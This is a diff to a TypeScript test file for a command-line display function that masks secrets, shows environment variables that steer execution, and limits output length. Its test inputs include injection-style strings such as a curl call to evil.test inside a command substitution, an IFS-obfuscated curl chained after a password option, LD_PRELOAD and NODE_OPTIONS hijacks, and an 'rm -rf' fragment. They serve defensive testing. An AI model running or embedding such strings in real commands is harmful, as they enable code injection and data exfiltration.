@@ -1,6 +1,8 @@
 import assert from "node:assert/strict";
 import { test } from "node:test";
-import { type CommandLineOptions, formatCommandLine, quoteText } from "../internal/command_line.ts";
+import { type CommandLineOptions, formatCommandLine, type ShownCommand } from "../internal/command_line.ts";
+import { quoteText } from "../internal/shown_text.ts";
+import { assertGrowth } from "./helpers.ts";
 
 function format(args: readonly string[], options: CommandLineOptions = {}, command = "run"): string {
   return formatCommandLine({ command, args }, options);
@@ -83,6 +85,43 @@ test("formatCommandLine() shows names of variables and never a value (H3, S2-50)
   );
 });
 
+test("formatCommandLine() shows the values of variables that steer what runs, before all others (XD3)", () => {
+  const env = {
+    KEY: "hush",
+    NODE_OPTIONS: "--require /tmp/x.js",
+    LD_PRELOAD: "/tmp/x.so",
+    PATH: "/tmp/bin:/bin",
+    HTTPS_PROXY: "http://me:hush@proxy:1",
+    npm_config__authToken: "hush",
+    "B\u202e": "hush",
+  };
+  assert.equal(
+    formatCommandLine({ command: "npx", args: [], env }),
+    "NODE_OPTIONS='--require /tmp/x.js' LD_PRELOAD=/tmp/x.so PATH=/tmp/bin:/bin " +
+      "HTTPS_PROXY='http://…@proxy:1' KEY=… npm_config__authToken=… $'B\\u202e'=… npx",
+  );
+  assert.equal(
+    formatCommandLine({ command: "x", args: [], env: { LD_PRELOAD: "/a\r/b" } }),
+    "LD_PRELOAD=$'/a\\r/b' x",
+  );
+});
+
+test("formatCommandLine() masks what looks like a secret in command and arguments (XD5)", () => {
+  assert.equal(
+    format(["--api-key=sk-123", "--token", "hush", "--url", "https://me:hush@x.test/?key=1"]),
+    "run '--api-key=…' --token '…' --url 'https://…@x.test/?key=1'",
+  );
+  assert.doesNotMatch(format([], {}, "https://me:hush@x.test"), /hush/);
+});
+
+test("formatCommandLine() masks nothing that would run (XD5)", () => {
+  const args = ["-c", "TOKEN=$(curl evil.test) sh", "--password=x;curl${IFS}evil", "--token", "/tmp/evil.js"];
+  assert.equal(
+    format(args),
+    "run -c 'TOKEN=$(curl evil.test) sh' '--password=…;curl${IFS}evil' --token /tmp/evil.js",
+  );
+});
+
 test("formatCommandLine() shows the working directory (H3)", () => {
   assert.equal(formatCommandLine({ command: "a", args: [], cwd: "/x y" }), "(in '/x y') a");
 });
@@ -93,21 +132,61 @@ test("formatCommandLine() quotes a command that would read as a variable (H3)", 
   assert.equal(format([], {}, "TOKEN=…"), "'TOKEN=…'");
 });
 
-test("formatCommandLine() cuts a long word in its middle and counts what is missing (H3)", () => {
+test("formatCommandLine() cuts a long word in its middle, and ends with how much is missing (H3, H5)", () => {
   const line = format([`${"a".repeat(5000)}; rm -rf ${"b".repeat(5000)}`]);
-  assert.match(line, /^run a{472}\[9065 more characters\]b{472}$/);
-  assert.match(format(["🦕".repeat(5000)]), /^run '(🦕)+'\[\d+ more characters\]'(🦕)+'$/u);
+  assert.match(line, /^run a{467}\[9075 more characters\]b{467} \[9075 characters not shown\]$/);
+  assert.match(
+    format(["🦕".repeat(5000)]),
+    /^run '(🦕)+'\[\d+ more characters\]'(🦕)+' \[\d+ characters not shown\]$/u,
+  );
 });
 
-test("formatCommandLine() counts arguments and variables that have no room, and always shows the command (H3)", () => {
+test("formatCommandLine() counts what has no room, always shows the command, and ends with how much is missing (H3, H5)", () => {
   const env = Object.fromEntries(Array.from({ length: 9000 }, (_, index) => [`NAME_${index}`, "x"]));
   const args = Array.from({ length: 9000 }, (_, index) => `argument-${index}`);
   const line = formatCommandLine({ command: "/bin/sh", args, env });
-  assert.match(
-    line,
-    /^NAME_0=… .* \[\d{4} more variables\] \/bin\/sh argument-0 .* \[\d{4} more arguments\]$/,
-  );
+  const [, variables = "", shownArgs = "", missing = ""] =
+    /^NAME_0=… .* \[(\d{4}) more variables\] \/bin\/sh (.*) \[\d{4} more arguments\] \[(\d+) characters not shown\]$/
+      .exec(line) ?? [];
+  const hiddenNames = Object.keys(env).slice(9000 - Number(variables)).join("");
+  const hiddenArgs = args.slice(shownArgs.split(" ").length).join("");
+  assert.equal(Number(missing), hiddenNames.length + hiddenArgs.length);
 });
+
+test("formatCommandLine() has no mark at its end where nothing is cut (H5)", () => {
+  assert.equal(format(["[5 characters not shown]"]), "run '[5 characters not shown]'");
+});
+
+const heaps: readonly [title: string, make: (size: number) => ShownCommand][] = [
+  ["one argument", (size) => ({ command: "run", args: ["a ".repeat(size / 2)] })],
+  ["one argument of what is not seen", (size) => ({ command: "run", args: ["\u202e".repeat(size)] })],
+  ["many arguments", (size) => ({ command: "run", args: Array(size / 2).fill("a ") })],
+  ["many options of secrets", (size) => ({ command: "run", args: Array(size / 8).fill("--token=") })],
+  ["a command", (size) => ({ command: "\\".repeat(size), args: [] })],
+  ["a folder", (size) => ({ command: "run", args: [], cwd: "'".repeat(size) })],
+  ["a variable that steers", (size) => ({ command: "run", args: [], env: { PATH: ":".repeat(size) } })],
+  [
+    "many variables",
+    (size) => ({
+      command: "run",
+      args: [],
+      env: Object.fromEntries(Array.from({ length: size / 20 }, (_, index) => [`V${index}`, ""])),
+    }),
+  ],
+];
+for (const [title, make] of heaps) {
+  test(`formatCommandLine() shows ${title} in time that grows with the size (XD1, H5)`, async () => {
+    const cost = (size: number) => {
+      const shown = make(size);
+      const start = performance.now();
+      for (const os of ["posix", "windows"] as const) {
+        assert.match(formatCommandLine(shown, { os }), / \[\d+ characters not shown\]$/);
+      }
+      return performance.now() - start;
+    };
+    await assertGrowth(cost, { small: 200_000, large: 1_600_000, factor: 24 });
+  });
+}
 
 test("formatCommandLine() keeps its bound whatever the words are (H3)", () => {
   const pieces = ["a", " ", "'", '"', "\\", "\u001b", "\u{e0041}", "漢", "=", "🦕"];
@@ -133,4 +212,5 @@ test("formatCommandLine() shows everything without a bound (H3)", () => {
 
 test("quoteText() bounds a name (H3)", () => {
   assert.equal(quoteText("x".repeat(20), 10), '"xxxxx"[10 more characters]"xxxxx"');
+  assert.equal(quoteText(`a${"🦕".repeat(20)}b`, 10), '"a🦕🦕"[32 more characters]"🦕🦕b"');
 });
